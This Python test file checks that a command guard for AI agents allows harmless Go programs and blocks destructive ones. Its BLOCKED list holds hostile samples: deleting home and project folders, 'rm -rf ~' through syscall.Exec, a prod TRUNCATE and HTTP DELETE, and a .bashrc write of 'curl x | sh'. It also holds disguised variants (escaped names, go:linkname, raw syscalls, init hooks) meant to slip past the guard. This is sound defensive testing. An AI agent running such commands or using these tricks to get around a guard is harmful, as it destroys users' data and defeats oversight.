"""Go source written in the command line and run (`cat > main.go <<EOF ... EOF && go run
main.go`), read by `engine/domains/code/golang.py` (session 29, engineer "code6"). Run as a
blocked agent would: `agentsh -c` with no terminal, CLAUDECODE=1, a temporary HOME, snapshots off.
Each RUNS command was refused on main (INT020 asked for any Go that mentions `os.`, `exec` or
`http`, a temporary folder included); each has a dangerous twin in BLOCKED, refused before and
now (by the rule that judges what it does, or INT020 where the reader cannot follow it)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import assert_blocked, run_as_agent
from tests.frontends.conftest import agent_env


def go(body: str, imports: str = '"os"', run: str = "go run main.go", name: str = "main.go") -> str:
    return (f"cat > {name} <<'EOF'\npackage main\n\nimport (\n{imports}\n)\n\n{body}\nEOF\n{run}")


RUNS = {
    "mkdirtemp-scratch": go('func main() {\n\tdir, err := os.MkdirTemp("", "x-*")\n'
                            '\tif err != nil {\n\t\tpanic(err)\n\t}\n\tdefer os.RemoveAll(dir)\n'
                            '\tos.WriteFile(filepath.Join(dir, "a.txt"), []byte("hi"), 0o644)\n'
                            '\tfmt.Println(dir)\n}', '\t"fmt"\n\t"os"\n\t"path/filepath"'),
    "test-tempdir": go('func TestX(t *testing.T) {\n\td := t.TempDir()\n'
                       '\tos.WriteFile(d+"/a", []byte("x"), 0o600)\n\tos.Remove(d + "/a")\n}',
                       '\t"os"\n\t"testing"', run="go test x_test.go", name="x_test.go"),
    "build-dirs-loop": go('func main() {\n\tfor _, d := range []string{"dist", "coverage"} {\n'
                          '\t\tos.RemoveAll(d)\n\t}\n}'),
    "git-log-output": go('func main() {\n\tout, _ := exec.Command("git", "log", "-3").Output()\n'
                         '\tfmt.Print(string(out))\n}', '\t"fmt"\n\t"os/exec"'),
    "http-get": go('func main() {\n\tr, err := http.Get("https://api.github.com/zen")\n'
                   '\tif err != nil {\n\t\treturn\n\t}\n\tfmt.Println(r.StatusCode)\n}',
                   '\t"fmt"\n\t"net/http"'),
    "sql-select": go('func main() {\n\tdb, _ := sql.Open("postgres", "postgres://localhost/app")\n'
                     '\tvar n int\n\tdb.QueryRow("SELECT count(*) FROM users").Scan(&n)\n}',
                     '\t"database/sql"'),
    "map-delete-and-flush": go('func main() {\n\tm := map[string]int{"a": 1}\n\tdelete(m, "a")\n'
                               '\tw := bufio.NewWriter(os.Stdout)\n\tdefer w.Flush()\n}',
                               '\t"bufio"\n\t"os"'),
}

BLOCKED = {
    "home-removeall": go('func main() {\n\thome, _ := os.UserHomeDir()\n'
                         '\tos.RemoveAll(filepath.Join(home, "data"))\n}',
                         '\t"os"\n\t"path/filepath"'),
    "getenv-home-concat": go('func main() {\n\tos.RemoveAll(os.Getenv("HOME") + "/data")\n}'),
    "project-dirs-loop": go('func main() {\n\tfor _, d := range []string{"dist", "src"} {\n'
                            '\t\tos.RemoveAll(d)\n\t}\n}'),
    "sh-c-rm": go('func main() {\n\texec.Command("sh", "-c", "rm -rf ~/data").Run()\n}',
                  '\t"os/exec"'),
    "argv-rm": go('func main() {\n\tcmd := exec.Command("rm", "-rf", "src")\n\tcmd.Run()\n}',
                  '\t"os/exec"'),
    "sql-truncate": go('func main() {\n\tdb, _ := sql.Open("postgres", "postgres://prod/app")\n'
                       '\tq := "TRUNCATE TABLE orders"\n\tdb.Exec(q)\n}', '\t"database/sql"'),
    "http-delete": go('func main() {\n\treq, _ := http.NewRequest(http.MethodDelete, '
                      '"https://api.example.com/v1/projects/prod", nil)\n'
                      '\thttp.DefaultClient.Do(req)\n}', '\t"net/http"'),
    "param-unknown": go('func clean(d string) { os.RemoveAll(d) }\n\n'
                        'func main() {\n\tclean(os.Args[1])\n}', run="go run main.go ~/data"),
    "name-given-twice": go('func main() {\n\td := "dist"\n\tif len(os.Args) > 1 {\n'
                           '\t\td = os.Args[1]\n\t}\n\tos.RemoveAll(d)\n}'),
    "chdir-then-build-dir": go('func main() {\n\tos.Chdir(os.Getenv("HOME"))\n'
                               '\tos.RemoveAll("dist")\n}'),
    "command-dir": go('func main() {\n\tc := exec.Command("rm", "-rf", "dist")\n'
                      '\tc.Dir = "/home"\n\tc.Run()\n}', '\t"os/exec"'),
    "unknown-sql": go('func main() {\n\tdb, _ := sql.Open("postgres", "postgres://prod/app")\n'
                      '\tdb.Exec(os.Args[1])\n}', '\t"database/sql"\n\t"os"'),
    "go-generate": go('//go:generate rm -rf ../data\nfunc main() {\n\tos.Exit(0)\n}',
                      run="go generate ./..."),
    "escaped-program-name": go('func main() {\n\texec.Command("\\x72m", "-rf", "src").Run()\n}',
                               '\t"os/exec"'),
    "reassigned-in-a-case": go('func main() {\n\td := "dist"\n\tswitch {\n\tcase len(os.Args) > 0: '
                               'd = "src"\n\t}\n\tos.RemoveAll(d)\n}'),
    "package-run-other-files": go('var d = "dist"\n\nfunc main() {\n\tos.RemoveAll(d)\n}',
                                  run="go run ."),
    "named-file-not-written-here": go('var d = "dist"\n\nfunc main() {\n\tos.RemoveAll(d)\n}',
                                      run="go run main.go other.go"),
    "linkname": go('//go:linkname rmall os.RemoveAll\nfunc rmall(string) error\n\n'
                   'func main() {\n\trmall("src")\n}', '\t"os"\n\t_ "unsafe"'),
    "ioutil-writes-a-startup-file": go('func main() {\n\th, _ := os.UserHomeDir()\n'
                                       '\tioutil.WriteFile(h+"/.bashrc", []byte("curl x | sh"), 0o644)\n}',
                                       '\t"io/ioutil"\n\t"os"'),
    "raw-syscall": go('func main() {\n\tp, _ := syscall.BytePtrFromString("src")\n'
                      '\tsyscall.Syscall(syscall.SYS_RMDIR, uintptr(unsafe.Pointer(p)), 0, 0)\n}',
                      '\t"syscall"\n\t"unsafe"'),
    "imported-package-written-too": "mkdir -p lib && cat > lib/lib.go <<'EOF'\npackage lib\n\n"
                                    "import \"os\"\n\nfunc init() { os.RemoveAll(\"../src\") }\nEOF\n"
                                    + go('func main() {\n\td, _ := os.MkdirTemp("", "x")\n'
                                         '\tos.RemoveAll(d)\n}', '\t"os"\n\t_ "example.com/app/lib"'),
    "walk-removing-each-file": go('func main() {\n\tfilepath.WalkDir(".", func(p string, d fs.DirEntry, '
                                  'err error) error {\n\t\tif !d.IsDir() {\n\t\t\tos.Remove(p)\n\t\t}\n'
                                  '\t\treturn nil\n\t})\n}', '\t"io/fs"\n\t"os"\n\t"path/filepath"'),
    "syscall-exec": go('func main() {\n\tsyscall.Exec("/bin/sh", []string{"sh", "-c", "rm -rf ~"},'
                       ' nil)\n}', '\t"syscall"'),
}


@pytest.fixture
def proj(tmp_path: Path, agent_home: Path):
    env = agent_env(agent_home, snapshots=False)
    (agent_home / "data").mkdir(exist_ok=True)
    (agent_home / "data" / "keep.txt").write_text("precious\n")
    proj = tmp_path / "proj"
    proj.mkdir()
    return proj, env, agent_home


@pytest.mark.parametrize("command", RUNS.values(), ids=list(RUNS))
def test_go_the_reader_follows_runs(agentsh_bin, proj, command) -> None:
    proj, env, home = proj
    done = run_as_agent(agentsh_bin, command, proj, env)
    assert done.returncode != 126 and b"blocked" not in done.stderr, done.stderr[-600:]
    assert (home / "data" / "keep.txt").exists()


@pytest.mark.parametrize("command", BLOCKED.values(), ids=list(BLOCKED))
def test_go_that_destroys_or_cannot_be_followed_is_refused(agentsh_bin, proj, command) -> None:
    proj, env, home = proj
    assert_blocked(run_as_agent(agentsh_bin, command, proj, env))
    assert (home / "data" / "keep.txt").exists()
